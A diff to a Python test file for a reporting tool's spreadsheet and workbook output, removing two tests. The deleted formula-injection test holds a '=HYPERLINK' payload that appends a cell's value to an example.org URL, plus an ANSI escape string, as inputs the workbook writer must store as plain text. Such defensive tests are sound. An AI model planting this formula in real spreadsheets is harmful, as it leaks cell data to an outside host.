@@ -9,23 +9,19 @@ import re
 import string
 from html.parser import HTMLParser
 from pathlib import Path
-from types import SimpleNamespace
 
 import matplotlib.text
 import numpy as np
-import openpyxl
 import pytest
 
 from samspil.experiments import reading
 from samspil.experiments.columns import columns
-from samspil.experiments.tables import write_xlsx
 from samspil.model.parameters import registry
 from samspil.reports import (
     ranking,
     spreadsheet,
     style,
     tables,
-    workbook,
     write_figures,
     write_report,
     write_sensitivity,
@@ -679,32 +675,6 @@ def test_shares_above_one_have_no_false_precision():
     assert words("en").numbers.percent(3.609) == "361%"
 
 
-RUN = {"commit": "1", "versions": {}, "digests": {"scenarios": {}, "evidence": "1"}}
-
-
-@pytest.mark.parametrize(("lang", "sheet"), [("en", "definitions"), ("da", "definitioner")])
-def test_the_workbook_explains_and_formats_its_columns(tmp_path, lang, sheet):
-    shown = told(lang=lang)
-    write_xlsx(tmp_path / "table.xlsx", shown.summary, [], RUN)
-    workbook.finish(tmp_path, shown)
-    book = openpyxl.load_workbook(tmp_path / "table.xlsx")
-    table = book.worksheets[0]
-    explained = {row[0]: row[1] for row in book[sheet].iter_rows(min_row=2, values_only=True)}
-    assert list(explained) == [cell.value for cell in table[1]]
-    assert all(explained.values())
-    formats = {cell.value: table.cell(2, cell.column).number_format for cell in table[1]}
-    heads = dict(zip((place.name for place in in_files(shown)), formats, strict=True))
-    assert (formats[heads["p_target"]], formats[heads["fte_2030-12_p50"]]) == ("0.0%", "#,##0.0")
-    if lang == "da":
-        text = " ".join(str(cell.value) for each in book.worksheets for row in each.iter_rows() for cell in row)
-        assert heads["p_target"].startswith("Chance for målet")
-        assert not re.search(r"\b(title_en|p_target|counting|source|assumed|per month)\b", text)
-    assert table.freeze_panes == "C2"
-    assert table.column_dimensions["A"].width > len("current-policy")
-    workbook.finish(tmp_path, shown)
-    assert openpyxl.load_workbook(tmp_path / "table.xlsx").sheetnames == book.sheetnames
-
-
 def test_a_danish_excel_opens_the_table_as_it_stands(tmp_path):
     shown = told(lang="da")
     content = spreadsheet.write(tmp_path, shown).read_bytes()
@@ -716,18 +686,6 @@ def test_a_danish_excel_opens_the_table_as_it_stands(tmp_path):
     known = shown.summary["scenarios"][shown.scenarios[0]]["potentials"][shown.levels[0]]["fte"]["2030-12"]["p50"]
     assert float(values["fte_2030-12_p50"].replace(",", ".")) == known
     assert "." not in values["fte_2030-12_p50"]
-
-
-def test_no_text_becomes_a_formula_and_none_stops_the_workbook(tmp_path):
-    shown = told()
-    source = '=HYPERLINK("http://example.org/?"&A1,"click")'
-    scenario = SimpleNamespace(name="mine", sources=[source, "a\x1b[2Jb", "اختبار 试验"])
-    write_xlsx(tmp_path / "table.xlsx", shown.summary, [scenario], RUN)
-    workbook.finish(tmp_path, shown)
-    book = openpyxl.load_workbook(tmp_path / "table.xlsx")
-    assert {cell.data_type for sheet in book for row in sheet for cell in row} <= {"s", "n"}
-    cells = [cell.value for sheet in book for row in sheet for cell in row]
-    assert {source, "a[2Jb", "اختبار 试验"} <= set(cells)
 
 
 @pytest.mark.parametrize("kind", ["money", "payers", "bought"])
